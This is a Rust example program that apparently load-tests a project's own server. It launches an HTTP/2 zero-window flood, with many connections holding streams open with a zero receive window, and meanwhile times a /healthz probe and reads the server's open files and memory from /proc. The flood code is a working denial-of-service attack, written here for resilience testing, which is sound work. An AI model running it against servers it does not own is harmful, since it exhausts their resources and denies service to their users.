//! The HTTP/2 zero-window attack, against a running server, with what it
//! costs the server: HTTP/2 connections that GET one media file on as many
//! streams as they may open and never open their receive window, while
//! another client times `GET /healthz` over HTTP/1.1 every 100 ms. Prints
//! the server's open files and resident memory (read from `/proc/PID`) and
//! the slowest `/healthz` of each second, then the same once the attack has
//! left. RELIABILITY.md has its figures.
//!
//! ```text
//! cargo run --release --example h2_flood -- ADDR PATH PID [CONNECTIONS] [STREAMS] [SECONDS]
//! ```

use std::net::SocketAddr;
use std::time::{Duration, Instant};

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

fn open_files(pid: u32) -> usize {
    std::fs::read_dir(format!("/proc/{pid}/fd")).map_or(0, |dir| dir.count())
}

fn resident_mib(pid: u32) -> u64 {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap_or_default();
    status
        .lines()
        .find_map(|l| l.strip_prefix("VmRSS:"))
        .and_then(|v| v.trim().trim_end_matches("kB").trim().parse::<u64>().ok())
        .map_or(0, |kib| kib / 1024)
}

/// One attacking connection; its streams stay open until the task is dropped.
async fn attack(addr: SocketAddr, path: String, streams: usize) {
    let Ok(tcp) = TcpStream::connect(addr).await else {
        return;
    };
    let Ok((client, connection)) = h2::client::Builder::new()
        .initial_window_size(0)
        .handshake::<_, bytes::Bytes>(tcp)
        .await
    else {
        return;
    };
    // Aborted when this task is: the connection closes with it.
    struct Abort(tokio::task::JoinHandle<Result<(), h2::Error>>);
    impl Drop for Abort {
        fn drop(&mut self) {
            self.0.abort();
        }
    }
    let _connection = Abort(tokio::spawn(connection));
    let mut held = Vec::new();
    let mut client = client;
    for _ in 0..streams {
        let Ok(ready) = client.ready().await else {
            break;
        };
        client = ready;
        let request = warp::http::Request::get(format!("http://{addr}{path}"))
            .body(())
            .unwrap();
        match client.send_request(request, true) {
            Ok((response, _)) => held.push(response),
            Err(_) => break,
        }
        // Past the server's stream limit, `ready` waits for a stream to end.
        if held.len() >= client.current_max_send_streams() {
            break;
        }
    }
    std::future::pending::<()>().await;
}

/// Milliseconds `GET /healthz` takes on a fresh connection (10 s if no answer).
async fn healthz(addr: SocketAddr) -> f64 {
    let started = Instant::now();
    let answered = tokio::time::timeout(Duration::from_secs(10), async {
        let mut tcp = TcpStream::connect(addr).await.ok()?;
        tcp.write_all(b"GET /healthz HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
            .await
            .ok()?;
        let mut answer = Vec::new();
        tcp.read_to_end(&mut answer).await.ok()?;
        answer.starts_with(b"HTTP/1.1 200").then_some(())
    })
    .await;
    match answered {
        Ok(Some(())) => started.elapsed().as_secs_f64() * 1000.0,
        _ => 10_000.0,
    }
}

/// The slowest `/healthz` of `seconds`, probed every 100 ms.
async fn slowest_healthz(addr: SocketAddr, seconds: u64) -> f64 {
    let mut slowest: f64 = 0.0;
    let end = Instant::now() + Duration::from_secs(seconds);
    while Instant::now() < end {
        slowest = slowest.max(healthz(addr).await);
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    slowest
}

#[tokio::main]
async fn main() {
    let args: Vec<String> = std::env::args().collect();
    if args.len() < 4 {
        eprintln!("usage: h2_flood ADDR PATH PID [CONNECTIONS] [STREAMS] [SECONDS]");
        std::process::exit(2);
    }
    let addr: SocketAddr = args[1].parse().expect("ADDR such as 127.0.0.1:8080");
    let path = args[2].clone();
    let pid: u32 = args[3].parse().expect("PID of the server");
    let number = |at: usize, default: u64| args.get(at).map_or(default, |a| a.parse().unwrap());
    let (connections, streams, seconds) = (number(4, 110), number(5, 200), number(6, 20));
    let report = |when: &str, slowest: f64| {
        println!(
            "{when:>8}: open files {:>6}, resident {:>5} MiB, slowest /healthz {slowest:>8.1} ms",
            open_files(pid),
            resident_mib(pid)
        );
    };
    report("before", healthz(addr).await);
    let attackers: Vec<_> = (0..connections)
        .map(|_| tokio::spawn(attack(addr, path.clone(), streams as usize)))
        .collect();
    for second in 1..=seconds {
        let slowest = slowest_healthz(addr, 1).await;
        report(&format!("{second} s"), slowest);
    }
    for attacker in attackers {
        attacker.abort();
    }
    // Give the server a moment to see the connections close.
    let slowest = slowest_healthz(addr, 5).await;
    report("left", slowest);
}
